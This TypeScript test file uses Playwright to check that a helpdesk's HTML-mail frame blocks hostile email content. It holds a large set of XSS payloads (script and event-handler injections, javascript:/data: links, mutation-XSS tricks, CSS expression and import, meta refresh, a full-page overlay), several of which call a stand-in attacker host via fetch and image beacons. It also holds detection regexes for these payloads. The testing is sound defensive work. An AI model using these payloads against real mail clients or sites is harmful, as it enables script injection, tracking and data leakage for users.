// Mails that mean harm, shown in their tickets: nothing runs, nothing leaves, nothing covers the desk.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasChromium } from './support/chromium.ts';
import { axeLines, deliver, fr, ticketNumber, useDemo } from './support/demo.ts';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const pixel = Buffer.from('R0lGODlhAQABAIAAAP8AAAAAACwAAAAAAQABAAACAkQBADs=', 'base64');

/** Harm of many kinds; `at` is the address of a host that must never hear of us. `run` marks, calls out and goes away. */
function nastyMails(at: string): Record<string, string> {
  const run = `window.__pwned=1;top.__pwned=1;parent.__pwned=1;new Image().src='${at}/ran';fetch('${at}/ran');top.location='${at}/gone';alert(1)`;
  const b64 = Buffer.from(`<script>${run}</script>`).toString('base64');
  return {
    'Scripts et gestionnaires': `<p>Bonjour scripts</p><script>${run}</script><script src="${at}/a.js"></script>
      <img src="x" onerror="${run}"><svg onload="${run}"><script>${run}</script></svg><body onload="${run}">
      <details open ontoggle="${run}">a</details><input autofocus onfocus="${run}"><video src="${at}/v.mp4" poster="${at}/p.png" onerror="${run}"></video>
      <marquee onstart="${run}">b</marquee><a href="javascript:${run}">Cliquez ici</a><a href="data:text/html;base64,${b64}">ou là</a>
      <a href=" java&#x0A;script:${run}">ou encore</a><div style="animation-name:x" onanimationstart="${run}">c</div>`,
    'Cadres et formulaires': `<p>Bonjour cadres</p><iframe srcdoc="<script>${run}</script>"></iframe><iframe src="${at}/frame"></iframe>
      <object data="${at}/o.swf"></object><embed src="${at}/e.swf"><meta http-equiv="refresh" content="0;url=${at}/gone">
      <base href="${at}/"><link rel="stylesheet" href="${at}/s.css"><link rel="prefetch" href="${at}/f"><link rel="dns-prefetch" href="//evil.example">
      <form action="${at}/post" method="post"><input name="p" value="1"><button formaction="${at}/post2">Valider</button></form>
      <a href="nulle-part">lien relatif</a><audio src="${at}/a.mp3" autoplay></audio><picture><source srcset="${at}/s.png"><img src="${at}/remote.gif?plain" srcset="${at}/2x.png 2x"></picture>`,
    'Styles qui débordent': `<p>Bonjour styles</p><style>@import url(${at}/i.css);@font-face{font-family:x;src:url(${at}/f.woff)}body{background:url(${at}/bg.png);font-family:x}</style>
      <style></style><script>${run}</script></style><style>p{color:red}<!--</style><img src=x onerror="${run}">--></style>
      <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">Je couvre tout</div>
      <div style="background:\\75rl(${at}/esc.png);width:expression(${run});behavior:url(${at}/b.htc);-moz-binding:url(${at}/x.xml)">d</div>
      <div style="background-image:url('${at}/bg2.png');content:url(${at}/c.png);cursor:url(${at}/cur.png),auto;list-style-image:url(${at}/li.png)">e</div>
      <table background="${at}/t.png"><tr><td background="${at}/td.png">f</td></tr></table>`,
    'Mutations de balises': `<p>Bonjour mutations</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run.replaceAll(/["']/g, '')}&gt;"></mglyph></table></mtext></math>
      <svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject><use href="${at}/u.svg#x"/><image href="${at}/im.png"/><animate attributeName="href" values="javascript:${run}"/></svg>
      <noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript><template><script>${run}</script></template><xmp><img src=x onerror="${run}"></xmp>
      <textarea><img src=x onerror="${run}"></textarea><title><img src=x onerror="${run}"></title><form id="getElementById"><input name="attributes"><input name="parentNode"></form>
      <![CDATA[<script>${run}</script>]]><?xml version="1.0"?><!--[if gte mso 9]><script>${run}</script><![endif]--><plaintext><script>${run}</script>`,
  };
}

describe.skipIf(!hasChromium())('S12 S13 an HTML mail in its frame', () => {
  const demo = useDemo('mail-frame');
  const heard: { path: string; headers: IncomingHttpHeaders }[] = [];
  const requests: string[] = [];
  const surprises: string[] = [];
  let server: Server;
  let stranger: string;
  let page: Page;

  beforeAll(async () => {
    server = createServer((request, response) => {
      heard.push({ path: request.url!, headers: request.headers });
      response.writeHead(200, { 'content-type': 'image/gif', 'set-cookie': 'seen=1' }).end(pixel);
    });
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    stranger = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    // The walls say so on the console when something runs against them.
    page = await demo.openAs('hugo', '/inbox', { allowed: [/Content Security Policy|sandboxed/] });
    page.context().on('request', request => requests.push(request.url()));
    page.on('dialog', dialog => {
      surprises.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
  });
  afterAll(() => {
    // A browser keeps lines that it has not used yet: their end would be waited for a minute.
    server.closeAllConnections();
    return new Promise<unknown>(resolve => server.close(resolve));
  });

  const foreign = () =>
    requests.filter(
      url => !url.startsWith(`${demo.desk.url}/`) && !/^(data|blob|about|ws:\/\/localhost)/.test(url),
    );
  const shown = () => page.locator('iframe:not([aria-hidden])');
  const gauge = () => page.locator('iframe[aria-hidden=true]');

  async function open(subject: string, html: string) {
    await deliver(demo.desk, { from: 'Mallory <mallory@evil.example>', subject, html });
    const number = await ticketNumber(page, demo.desk, subject);
    await page.goto(`${demo.desk.url}/w/velo-cie/tickets/${number}`);
    await page.getByRole('article').first().waitFor();
    await shown().waitFor();
    await settled();
  }
  /** Both frames have loaded, and the shown one has got the height that the hidden one told. */
  async function settled() {
    await page.waitForFunction(() => {
      const frame = document.querySelector<HTMLElement>('iframe:not([aria-hidden])');
      return frame !== null && frame.style.height !== '96px';
    });
    await page.waitForLoadState('networkidle');
  }
  /** What a frame has under __pwned; one that runs no script never answers. */
  const marked = (frame: Frame) =>
    Promise.race([
      frame.evaluate(() => String(window.__pwned)),
      new Promise<string>(resolve => setTimeout(resolve, 300, 'undefined')),
    ]);

  async function expectHarmless() {
    for (const frame of page.frames()) expect(await marked(frame), frame.url()).toBe('undefined');
    expect(surprises).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect(foreign()).toEqual([]);
    expect(heard).toEqual([]);
    const sandbox = (await shown().getAttribute('sandbox'))!.split(' ');
    expect(sandbox).not.toContain('allow-scripts');
    expect(sandbox).not.toContain('allow-same-origin');
    expect(sandbox).not.toContain('allow-top-navigation');
    expect(sandbox).not.toContain('allow-forms');
    // The one that may run the script that measures has no origin, and a policy that lets no other script run.
    expect((await gauge().getAttribute('sandbox'))!.split(' ')).toEqual(['allow-scripts']);
    for (const frame of [shown(), gauge()]) {
      const address = new URL((await frame.getAttribute('src'))!, demo.desk.url);
      const answer = await page.request.get(address.href);
      const policy = answer.headers()['content-security-policy'] ?? '';
      expect(policy).toContain("default-src 'none'");
      expect(policy).toMatch(/script-src '(none|nonce-[\w-]{16,})'/);
      expect(policy).not.toContain('allow-same-origin');
      const html = (await answer.text()).replace(
        /<script nonce="[\w-]+">(?:(?!<\/script>)[\s\S])*<\/script>/,
        '',
      );
      expect(html).toContain('Bonjour');
      // Harm is gone from what is stored, not only kept from running.
      expect(html).not.toMatch(
        /<(script|iframe|object|embed|form|base|link|meta (?!charset)|svg|math|template|video|audio)\b/i,
      );
      expect(html).not.toMatch(/<[^>]+\son\w+\s*=/i);
      expect(html).not.toMatch(/(href|src|action)\s*=\s*["']?\s*(javascript|data:text)/i);
      expect(html).not.toMatch(/position\s*:\s*fixed|expression\(|@import|behavior\s*:/i);
    }
    // What lies over the page would catch the click.
    await page.getByRole('button', { name: fr('composer.send'), exact: true }).click({ trial: true });
  }

  it.each([
    'Scripts et gestionnaires',
    'Cadres et formulaires',
    'Styles qui débordent',
    'Mutations de balises',
  ])('S12 S13 nothing runs and nothing is asked for: %s', async subject => {
    await open(subject, nastyMails(stranger)[subject]!);
    await expectHarmless();
    expect(await axeLines(page)).toEqual([]);
  });

  it('S13 remote images load only after the button, without cookies and without saying from where', async () => {
    const html = `<p>Bonjour images</p><p><img src="${stranger}/logo.gif" width="40" height="40" alt="Logo"><img src="${stranger}/track.gif?who=hugo"></p>`;
    await open('Images distantes', html);
    await expectHarmless();
    await page.getByRole('button', { name: fr('tickets.message.images') }).click();
    await expect.poll(() => new Set(heard.map(one => one.path)).size, { timeout: 10_000 }).toBe(2);
    expect(new Set(heard.map(one => one.path))).toEqual(new Set(['/logo.gif', '/track.gif?who=hugo']));
    for (const { headers } of heard) {
      expect(headers.cookie).toBeUndefined();
      expect(headers.referer).toBeUndefined();
    }
    await page.waitForLoadState('networkidle');
    expect(foreign().every(url => url.startsWith(`${stranger}/`))).toBe(true);
    expect(await axeLines(page)).toEqual([]);
    heard.splice(0);
    requests.splice(0);
    // The next visit starts without them again.
    await page.reload();
    await shown().waitFor();
    await settled();
    expect(heard).toEqual([]);
  });

  it.each([
    ['Un mot', 1],
    ['Un roman', 120],
  ])('S12 the frame is as high as its mail: %s', async (subject, lines) => {
    const words = 'Bonjour hauteur, le dérailleur saute une dent dès que la pente se lève. '.repeat(3);
    await open(subject, `<p>${words}</p>`.repeat(lines));
    const [height, width] = await shown().evaluate(frame => [frame.clientHeight, frame.clientWidth]);
    const measuring = page.frames().find(frame => frame.url().includes('mode=measure'))!;
    const content = await measuring.evaluate(() => [
      document.documentElement.scrollHeight,
      document.documentElement.clientWidth,
    ]);
    expect(content[1]).toBe(width);
    expect(Math.abs(height! - content[0]!)).toBeLessThanOrEqual(2);
    expect(height!).toBeGreaterThan(lines * 24);
    await page.setViewportSize({ width: 1100, height: 900 });
    await expect
      .poll(() => shown().evaluate(frame => [frame.clientWidth !== 0, frame.clientHeight]))
      .toEqual([true, await measuring.evaluate(() => document.documentElement.scrollHeight)]);
    await page.setViewportSize({ width: 1440, height: 900 });
  });
});
